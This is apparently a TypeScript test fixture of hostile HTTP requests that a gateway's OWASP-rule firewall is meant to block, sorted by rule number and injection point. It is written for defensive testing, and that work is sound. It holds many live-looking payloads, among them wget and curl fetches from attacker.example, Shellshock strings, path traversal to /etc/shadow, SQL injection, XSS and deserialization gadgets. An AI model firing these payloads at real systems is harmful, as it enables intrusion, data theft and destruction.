/**
 * Requests that the firewall must refuse. Each row names a rule of the OWASP Core Rule Set that runs at
 * paranoia level 1, by its number in 3.3. The kinds of attack are those of that project's regression tests
 * and of the installed rules 3.3.4 (Apache License 2.0, https://coreruleset.org). The texts are our
 * own, written for this gateway, and not copies of those tests.
 *
 * The list was committed before the first exclusion was written. An exclusion must not cost it a row,
 * and a row that passes is no reason to change the row.
 *
 * Every place is one where no caller writes free text: the line of the request, its headers, and
 * members of the body that are ids or that the gateway does not know.
 */
export type HostilePlace =
  /** A parameter of the address, and its name. */
  | 'query'
  | 'queryName'
  /** The path after the host. */
  | 'path'
  | 'cookie'
  | 'cookieName'
  | 'userAgent'
  | 'referer'
  /** A header of the caller's own, `X-Probe`. */
  | 'header'
  /** `Name: value` as written in the row, in place of what a client sends. */
  | 'wholeHeader'
  /** The method alone. */
  | 'method'
  /** Members of the GraphQL body. */
  | 'operationName'
  | 'idVariable'
  | 'extensions'
  | 'unknownMember'
  | 'unknownMemberName'
  /** A body that is a form, and one of type multipart/form-data with this file name. */
  | 'form'
  | 'fileName';

export interface HostileRequest {
  readonly rule: number;
  readonly place: HostilePlace;
  readonly text: string;
}

const row = (rule: number, place: HostilePlace, text: string): HostileRequest => ({
  rule,
  place,
  text,
});

const protocol: readonly HostileRequest[] = [
  row(911100, 'method', 'PUT'),
  row(911100, 'method', 'DELETE'),
  row(911100, 'method', 'PROPFIND'),
  row(913100, 'userAgent', 'sqlmap/1.8#stable (https://sqlmap.example)'),
  row(913100, 'userAgent', 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)'),
  row(913100, 'userAgent', 'masscan/1.3 (https://masscan.example)'),
  row(913100, 'userAgent', 'Mozilla/5.0 (compatible; Nmap Scripting Engine)'),
  row(913100, 'userAgent', 'WPScan v3.8.25'),
  row(920420, 'wholeHeader', 'Content-Type: application/x-php'),
  row(920470, 'wholeHeader', 'Content-Type: application/json; charset=utf-8 | id'),
  row(920480, 'wholeHeader', 'Content-Type: application/json; charset=utf-7'),
  row(920440, 'path', '/graphql.bak'),
  row(920440, 'path', '/backup/gateway.sql'),
  row(920440, 'path', '/config/server.key'),
  row(920500, 'path', '/graphql.js~'),
  row(920450, 'wholeHeader', 'Proxy: http://proxy.example'),
  row(920450, 'wholeHeader', 'Content-Range: bytes 0-9/10'),
  row(920270, 'query', 'task\u0000.json'),
  row(921110, 'query', 'a\r\nGET /readyz HTTP/1.1'),
  row(921110, 'form', 'a\nPOST /graphql HTTP/1.1'),
  row(921120, 'query', 'en\r\nSet-Cookie: tenant=other'),
  row(921120, 'idVariable', 'a\r\nLocation: https://attacker.example/'),
  row(921130, 'query', 'a <html><body>HTTP/1.1 200 OK'),
  row(921150, 'queryName', 'lang\r\nx'),
  row(921160, 'query', 'a\r\nX-Forwarded-For: 10.1.2.3'),
  row(921190, 'path', '/graphql%0d%0aX-Probe:1'),
  row(921200, 'query', 'bob)(|(role=*'),
];

const files: readonly HostileRequest[] = [
  row(930100, 'query', '..%2f..%2f..%2fetc%2fgateway'),
  row(930100, 'query', '0x2e0x2e0x2f0x2e0x2e0x2fwindows'),
  row(930110, 'query', '../../../../data/operator.key'),
  row(930110, 'header', '../../secret'),
  row(930110, 'idVariable', '../../../other-tenant/task'),
  row(930110, 'operationName', '..\\..\\boot'),
  row(930120, 'query', '/etc/passwd'),
  row(930120, 'cookie', '/proc/self/environ'),
  row(930120, 'idVariable', 'C:\\windows\\win.ini /etc/shadow'),
  row(930120, 'extensions', '/etc/shadow'),
  row(930130, 'path', '/.env'),
  row(930130, 'path', '/.git/config'),
  row(930130, 'path', '/wp-config.php'),
  row(930130, 'path', '/.htpasswd'),
  row(931100, 'query', 'http://203.0.113.9/shell'),
  row(931100, 'idVariable', 'ftp://203.0.113.9/load'),
  row(931120, 'query', 'https://attacker.example/list.txt?'),
  row(931120, 'unknownMember', 'http://attacker.example/cmd.txt??'),
];

const commands: readonly HostileRequest[] = [
  row(932100, 'query', ';wget http://attacker.example/x'),
  row(932100, 'form', '| ifconfig -a'),
  row(932100, 'idVariable', '$(curl https://attacker.example)'),
  row(932105, 'query', ';sudo whoami'),
  row(932110, 'query', '&& netstat -an'),
  row(932115, 'query', '| systeminfo'),
  row(932120, 'query', 'x; Invoke-WebRequest attacker.example'),
  row(932120, 'operationName', 'Get-ChildItem -Recurse'),
  row(932130, 'query', 'a${IFS}b $(date)'),
  row(932130, 'unknownMember', '<(sleep 9)'),
  row(932140, 'query', 'for /d %i in (*) do set'),
  row(932150, 'query', 'wget http://attacker.example/x -O y'),
  row(932160, 'query', 'cat /bin/bash'),
  row(932160, 'cookie', '/usr/bin/python3 -m http.server'),
  row(932160, 'extensions', '/usr/bin/perl -e print'),
  row(932170, 'header', '() { :;}; ping attacker.example'),
  row(932170, 'userAgent', '() { ignored;}; /usr/bin/id'),
  row(932171, 'query', '() { :;}; echo hit'),
  row(933100, 'query', '<?php echo 7*7;'),
  row(933100, 'idVariable', '<? exec("id");'),
  row(933110, 'wholeHeader', 'X-Filename: picture.php'),
  row(933120, 'query', 'allow_url_include=1'),
  row(933130, 'query', '$_GET[cmd]'),
  row(933130, 'cookie', '$_SERVER'),
  row(933140, 'query', 'php://filter/resource=index'),
  row(933150, 'query', 'base64_decode(cGluZw)'),
  row(933150, 'path', '/file_get_contents'),
  row(933160, 'query', 'phpinfo()'),
  row(933170, 'cookie', 'O:8:"Gateways":1:{s:4:"role";s:5:"admin";}'),
  row(933180, 'query', "$call('id')"),
  row(933200, 'query', 'phar://upload.png/x'),
  row(933210, 'query', '(sy.(st).em)(whoami)'),
  row(934100, 'query', '_$$ND_FUNC$$_function(){process.exit()}'),
  row(934100, 'idVariable', 'new Function("return process")'),
  row(934100, 'unknownMember', "this.constructor.constructor('return 1')"),
];

const scripts: readonly HostileRequest[] = [
  row(941100, 'query', '<script>alert(document.domain)</script>'),
  row(941110, 'path', '/graphql/<script>fetch(1)</script>'),
  row(941110, 'userAgent', '<script >top.stop()</script>'),
  row(941110, 'referer', 'https://a.example/<script>x</script>'),
  row(941110, 'operationName', '<script src=//attacker.example></script>'),
  row(941120, 'query', '"; onpointerover =alert(1)'),
  row(941130, 'query', '<!ENTITY % x SYSTEM "file:///x">'),
  row(941130, 'unknownMember', ' xlink:href=data:text/html,x'),
  row(941140, 'query', '<form action=javascript:alert(1)>'),
  row(941160, 'query', '<img src=x onerror=alert(1)>'),
  row(941160, 'cookie', '<svg/onload=alert(1)>'),
  row(941160, 'idVariable', '<iframe src=//attacker.example>'),
  row(941160, 'queryName', 'a<form x'),
  row(941170, 'query', 'javascript:alert(document.title)'),
  row(941170, 'referer', 'javascript:x=alert(1)'),
  row(941180, 'query', 'x=document.cookie'),
  row(941180, 'extensions', 'a.innerHTML'),
  row(941190, 'query', '<style>@import url(//a.example)</style>'),
  row(941210, 'query', 'jav&#x09;ascript:alert(1)'),
  row(941220, 'query', 'vbs&#x63;ript:msgbox(1)'),
  row(941230, 'query', '<embed src=//attacker.example/a.swf type=x>'),
  row(941240, 'query', '<?import implementation=x>'),
  row(941250, 'query', '<meta http-equiv="refresh" content=0>'),
  row(941260, 'query', '<meta charset=x-mac-farsi>'),
  row(941270, 'query', '<link rel=stylesheet href=//attacker.example>'),
  row(941280, 'query', '<base href=//attacker.example>'),
  row(941290, 'query', '<applet code=x>'),
  row(941300, 'query', '<object data=//attacker.example>'),
  row(941350, 'query', '+ADw-script+AD4-alert(1)'),
  row(941360, 'query', '![]+!+[]'),
  row(941370, 'query', "window['alert'](1)"),
];

const databases: readonly HostileRequest[] = [
  row(942100, 'query', "7' or '7'='7"),
  row(942100, 'query', '42 OR 6=6'),
  row(942100, 'idVariable', "a' and 12=13 -- "),
  row(942100, 'cookie', "x') UNION ALL select NULL --"),
  row(942100, 'referer', "1' or '2'='2"),
  row(942100, 'userAgent', "-99' or '5'='5"),
  row(942100, 'operationName', "x' UNION SELECT 1,2 -- "),
  row(942100, 'unknownMember', '"a@b.example\')) and (select*from(select(sleep(5)))x) --'),
  row(942140, 'query', 'information_schema'),
  row(942140, 'idVariable', 'pg_catalog'),
  row(942160, 'query', 'sleep(30)'),
  row(942160, 'extensions', 'benchmark(9999999,md5(1))'),
  row(942170, 'query', '; sleep (9)'),
  row(942190, 'query', ' exec master..xp_cmdshell'),
  row(942190, 'idVariable', 'current_user('),
  row(942190, 'form', '"union select 8'),
  row(942220, 'query', '2147483648'),
  row(942230, 'query', ') like (select'),
  row(942240, 'query', "'; waitfor delay '0:0:9'"),
  row(942250, 'query', "execute immediate 'drop'"),
  row(942270, 'query', 'union all select secret from runway_credentials'),
  row(942270, 'unknownMemberName', 'union select a from b'),
  row(942280, 'query', ';shutdown --'),
  row(942280, 'idVariable', 'select pg_sleep'),
  row(942290, 'queryName', 'tenant[$ne]'),
  row(942320, 'query', '; declare xyz'),
  row(942350, 'query', '; insert into keys'),
  row(942350, 'operationName', ';delete tasks'),
  row(942360, 'query', '1 drop table tasks'),
  row(942500, 'query', 'a /*!50000 select*/'),
];

const sessionsAndJava: readonly HostileRequest[] = [
  row(943100, 'query', 'document.cookie="a=b; domain=gateway.example";'),
  row(943120, 'queryName', 'jsessionid'),
  row(944100, 'query', 'java.lang.Runtime'),
  row(944100, 'header', 'java.lang.ProcessBuilder'),
  row(944100, 'idVariable', 'java.lang.Runtime'),
  row(944110, 'query', 'new java.lang.ProcessBuilder(unmarshaller)'),
  row(944130, 'query', 'com.opensymphony.xwork2'),
  row(944130, 'cookie', 'java.io.FileOutputStream'),
  row(944130, 'extensions', 'org.apache.struts2'),
];

export const HOSTILE_REQUESTS: readonly HostileRequest[] = [
  ...protocol,
  ...files,
  ...commands,
  ...scripts,
  ...databases,
  ...sessionsAndJava,
];
